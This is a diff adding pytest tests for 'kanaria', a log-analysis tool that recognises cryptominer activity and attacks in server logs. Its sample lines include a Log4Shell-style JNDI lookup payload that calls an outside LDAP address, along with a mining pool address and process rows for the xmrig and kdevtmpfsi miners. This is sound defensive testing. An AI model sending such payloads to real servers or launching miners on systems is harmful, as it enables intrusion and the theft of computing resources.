@@ -126,3 +126,41 @@ def test_a_miners_name_is_heard_beside_an_address(kanaria: Kanaria, tmp_path: Pa
     (tmp_path / "app.log").write_text(f"{line}\n")
     incident = kanaria("analyze", "app.log", "--format", "json").incident
     assert [finding["rule"] for finding in incident["findings"]] == ["mining_program_named_in_log"]
+
+
+LINES = {
+    "a word": "xmrig",
+    "a pool": "pool.supportxmr.com:3333",
+    "the end of a request": 'HTTP/1.1" 200 512 "-" "XMRig/6.21.0"',
+    "a command": RUN,
+    "a job": f"Jul 21 15:40:01 vps CRON[99]: (root) CMD ({RUN})",
+    "a row of ps": "www-data  4021  398  2.3 2442088 2.3g ? Ssl 10:12 1234:56 ./kdevtmpfsi",
+    "a question": "Dec  5 10:12:41 dnsmasq[812]: query[A] pool.supportxmr.com from 192.168.1.20",
+    "a request": '「2001:db8::7 - - [21/Jul/2025:15:40:57 +0900] "GET /?x=${jndi:ldap://[2001:db8::9]/a} HTTP/1.1" 404 5 "-" "-"」',
+    "prose": "サーバのログに見慣れない行がありました。これは攻撃でしょうか。",
+    "nothing": "-",
+}
+
+
+@pytest.mark.parametrize("name", LINES)
+def test_explain_says_of_a_line_what_analyze_says(kanaria: Kanaria, tmp_path: Path, name: str) -> None:
+    line = LINES[name]
+    (tmp_path / "given.log").write_text(f"{line}\n", encoding="utf-8")
+    told = kanaria("explain", line, "--format", "json")
+    same = kanaria("analyze", "given.log", "--format", "json", "--fail-on", "informational")
+    assert told.status == (1 if told.document["incidents"] else same.status)
+    for one, other in zip(told.document["incidents"], same.document["incidents"], strict=True):
+        assert [one[key] for key in ("title", "severity")] == [other[key] for key in ("title", "severity")]
+        assert [a["id"] for a in one["recommendations"]] == [a["id"] for a in other["recommendations"]]
+    if name in {"a word", "a pool", "the end of a request"}:
+        said = " ".join(kanaria("explain", line, "--lang", "en").out.split())
+        assert "Nothing needs to be done" not in said and "Nothing follows from the text alone" in said
+    if name == "a question":
+        assert "sender not recorded" not in kanaria("explain", line, "--lang", "en").out
+
+
+def test_a_row_of_ps_without_its_header_is_a_program_that_runs(kanaria: Kanaria) -> None:
+    for line in (LINES["a row of ps"], "root 4021 1 99 10:12 ? 1-05:31:22 /tmp/.x/xmrig -o pool.example.com:3333"):
+        assert "miner_program_started" in {
+            f["rule"] for f in kanaria("explain", line, "--format", "json").incident["findings"]
+        }
